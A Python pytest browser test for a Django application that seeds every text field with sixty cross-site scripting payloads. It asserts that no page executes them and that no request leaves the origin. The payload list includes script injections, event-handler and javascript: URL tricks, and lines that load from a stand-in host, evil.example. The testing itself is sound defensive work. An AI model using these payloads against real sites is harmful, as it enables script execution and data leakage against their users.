"""A tour of every page in a real browser, over rows whose every text is an attack: nothing runs, nothing leaves.

Each text column of each row holds one of sixty attacks, each column another one; a free text holds them all.
"""

from collections.abc import Callable, Iterator
from itertools import count
from typing import Any

import pytest
from django.contrib.postgres.fields import ArrayField
from django.db import models
from django.test import Client

from accounts.models import Officer
from registry.fields import SealedTextField
from tests.accounts import marked as marking
from tests.accounts.marked import Marked, marked
from tests.accounts.routes import routes
from tests.browsing import DESK
from tests.world import World

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.django_db(transaction=True)]

RUN = "window.marker=1"
OUT = "//evil.example/x"
ATTACKS = (
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"</script><script>{RUN}</script>", f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f'"><img src=x onerror={RUN}>', f"'><img src=x onerror={RUN}>",
    f'" onfocus={RUN} autofocus x="', f"' onfocus={RUN} autofocus x='", f'" onmouseover="{RUN}', f"` onerror={RUN} `",
    f"<body onload={RUN}>", f"<details open ontoggle={RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<iframe src=javascript:{RUN}>", f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>", f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<video><source onerror={RUN}></video>", f"<audio src onerror={RUN}>", f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>",
    f"<form><button formaction=javascript:{RUN} autofocus>x</button></form>", f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>", f"</textarea><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"<style>@import '{OUT}';</style>", f"<link rel=stylesheet href={OUT}>", f"<script src={OUT}></script>", f"<img src={OUT}>",
    f"<base href={OUT}>", f"<meta http-equiv=refresh content='0;url={OUT}'>", f"<style>*{{background:url({OUT})}}</style>",
    f"<p style='background:url({OUT})'>x</p>", f"--><script>{RUN}</script>", f"<!--><script>{RUN}</script>", f"]]><script>{RUN}</script>",
    f"<marquee onstart={RUN}>", f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"{{{{ {RUN} }}}}", f"{{% include '{OUT}' %}}", f"${{{RUN}}}", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<img src=x onerror=eval('{RUN}')>",
    f"<x onclick={RUN} tabindex=1 autofocus onfocus={RUN}>", f"\u2028<script>{RUN}</script>", f"<img/src=x/onerror={RUN}>",
    f"<a href='{OUT}' ping='{OUT}'>x</a>", f"=HYPERLINK(\"{OUT}\")<script>{RUN}</script>",
)  # fmt: skip


@pytest.fixture
def attacked(world: World, monkeypatch: pytest.MonkeyPatch) -> Iterator[Marked]:
    """The marked world, each mark an attack; where there is room, all of them."""
    turn = count()

    def attack(each: Any, _number: int) -> str:
        if isinstance(each, SealedTextField):
            return "19900010000"
        if isinstance(each, models.TextField | models.JSONField | ArrayField):
            return " ".join(ATTACKS)
        return ATTACKS[next(turn) % len(ATTACKS)][: each.max_length]

    monkeypatch.setattr(marking, "mark_of", attack)
    return marked(world)


def pages_for(house: Marked, officer: Officer) -> list[str]:
    """Every page that this person may look at, with their own rows in it."""
    client = Client(headers={"accept-language": "en"}, raise_request_exception=False)
    client.force_login(officer)
    found = []
    for route in routes():
        address = route.address(house, "own")
        answer = client.get(address)
        if answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/html"):
            found.append(address)
        elif answer.streaming:
            b"".join(answer.streaming_content)
    return found


@pytest.mark.parametrize(("who", "least"), [("owner", 15), ("chief", 50), ("leader", 8), ("admin", 12)])
def test_no_text_of_any_row_runs_and_no_request_leaves(
    attacked: Marked, page_as: Callable[..., Any], live_server: Any, who: str, least: int
) -> None:
    assert len(ATTACKS) == 60
    officer = Officer.objects.unscoped("test").get(pk=getattr(attacked.world, who).pk)
    addresses = pages_for(attacked, officer)
    assert len(addresses) >= least, addresses
    page = page_as(officer, "/notices/", screen=DESK, language="en")
    ran: list[str] = []
    left: list[str] = []
    page.on("dialog", lambda dialog: (ran.append(f"dialog on {page.url}"), dialog.dismiss()))
    page.on("request", lambda asked: None if at_home(asked.url, live_server.url) else left.append(asked.url))
    for address in addresses:
        page.goto(address, wait_until="load")
        if page.evaluate("window.marker"):
            ran.append(address)
    assert (ran, left) == ([], [])


def at_home(url: str, origin: str) -> bool:
    return url.startswith((origin + "/", "data:image/"))
